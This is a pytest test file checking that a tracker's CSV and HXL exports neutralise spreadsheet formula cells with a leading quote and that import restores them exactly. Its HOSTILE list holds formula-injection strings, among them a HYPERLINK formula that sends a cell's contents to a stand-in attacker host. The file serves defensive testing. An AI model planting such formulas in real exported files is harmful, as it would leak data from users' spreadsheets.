"""CSV files the tracker writes never arm a spreadsheet, and import undoes the guard exactly."""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from polars.testing import assert_frame_equal
from typer.testing import CliRunner

from tracker.cli import app
from tracker.importer import prepare_figures
from tracker.model import COLUMN_NAMES
from tracker.store import open_store
from tracker.tables import neutralise_formulas, read_table, restore_formulas, write_table

runner = CliRunner()

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "+1-2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tstarts with a tab",
    "\rstarts with CR",
    "'=already quoted",
    "''@twice",
    "it's fine",
]


def figures_with_notes(notes: list[str]) -> pl.DataFrame:
    """Return one valid, place-resolved figure per note; note and source name carry it."""
    raw = pl.DataFrame(
        {
            "metric": ["evacuated"] * len(notes),
            "population_group": ["people"] * len(notes),
            "value": list(range(len(notes))),
            "qualifier": ["exact"] * len(notes),
            "location": ["Izium"] * len(notes),
            "as_of": [date(2024, 5, 1)] * len(notes),
            "source_name": [f"RMA {n}" for n in notes],
            "note": notes,
        }
    )
    figures, failures = prepare_figures(raw, method="imported")
    assert not failures
    return figures.select(COLUMN_NAMES)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+7", "+7"),  # a plain number stays a number
        ("-3.5", "-3.5"),
        ("-3 people", "'-3 people"),
        ("@x", "'@x"),
        ("\t=x", "'\t=x"),
        ("'=x", "''=x"),
        ("'plain", "'plain"),
        ("Kupiansk", "Kupiansk"),
    ],
)
def test_formula_cells_get_one_leading_quote(cell: str, written: str) -> None:
    frame = pl.DataFrame({"note": [cell]})
    assert neutralise_formulas(frame)["note"].to_list() == [written]
    assert restore_formulas(neutralise_formulas(frame))["note"].to_list() == [cell]


_HOSTILE_TEXT = st.text(
    alphabet=st.sampled_from(list("=+-@\t\r'\"0123456789.,; aZ\nй")), min_size=1, max_size=12
)


@settings(max_examples=200, deadline=None)
@given(st.lists(_HOSTILE_TEXT, min_size=1, max_size=5))
def test_neutralising_then_restoring_gives_every_string_back(cells: list[str]) -> None:
    frame = pl.DataFrame({"note": cells})
    assert_frame_equal(restore_formulas(neutralise_formulas(frame)), frame)


@settings(max_examples=60, deadline=None)
@given(st.lists(_HOSTILE_TEXT, min_size=1, max_size=4, unique=True))
def test_a_csv_export_reads_back_identical_and_arms_no_cell(notes: list[str]) -> None:
    frame = figures_with_notes(notes)
    buffer = io.BytesIO()
    write_table(frame, "csv", buffer)
    written = pl.read_csv(buffer.getvalue(), infer_schema=False)
    armed = written.select(
        pl.all().str.contains(r"^[=+\-@\t\r]") & ~pl.all().str.contains(r"^[+-]?[0-9]+(\.[0-9]+)?$")
    )
    assert not armed.select(pl.any_horizontal(pl.all()).any()).item()
    assert restore_formulas(written)["note"].to_list() == notes


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_export_then_import_keeps_hostile_text_and_writes_no_formula(
    db: Path | str, tmp_path: Path, fmt: str
) -> None:
    with open_store(db) as store:
        store.write(figures_with_notes(HOSTILE))
    exported = tmp_path / "figures.csv"

    assert (
        runner.invoke(
            app, ["export", "--format", fmt, "-o", str(exported), "--db", str(db)]
        ).exit_code
        == 0
    )
    text = exported.read_text(encoding="utf-8")
    imported = runner.invoke(app, ["import", str(exported), "--db", str(tmp_path / "copy.db")])

    assert ",=1+1" not in text
    assert ",'=1+1" in text
    assert imported.exit_code == 0, imported.output
    with open_store(db) as first, open_store(tmp_path / "copy.db") as second:
        assert_frame_equal(first.read_figures(), second.read_figures())


def test_raw_writes_cells_verbatim(db: Path | str) -> None:
    with open_store(db) as store:
        store.write(figures_with_notes(["=1+1"]))

    guarded = runner.invoke(app, ["list", "--format", "csv", "--db", str(db)])
    raw = runner.invoke(app, ["list", "--format", "csv", "--raw", "--db", str(db)])

    assert ",'=1+1" in guarded.stdout
    assert ",=1+1" in raw.stdout


def test_report_csvs_are_guarded_too(
    sqlite_db: Path, tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    with open_store(sqlite_db) as store:
        store.write(figures_with_notes(["@SUM(A1)"]))
    out = tmp_path / "out"

    assert runner.invoke(app, ["report", "--db", str(sqlite_db), "--out", str(out)]).exit_code == 0

    [page_csv] = [p for p in out.glob("*.csv") if p.name != "index.csv"]
    assert read_table(page_csv)["note"].to_list() == ["@SUM(A1)"]
    assert ",'@SUM(A1)" in page_csv.read_text(encoding="utf-8")
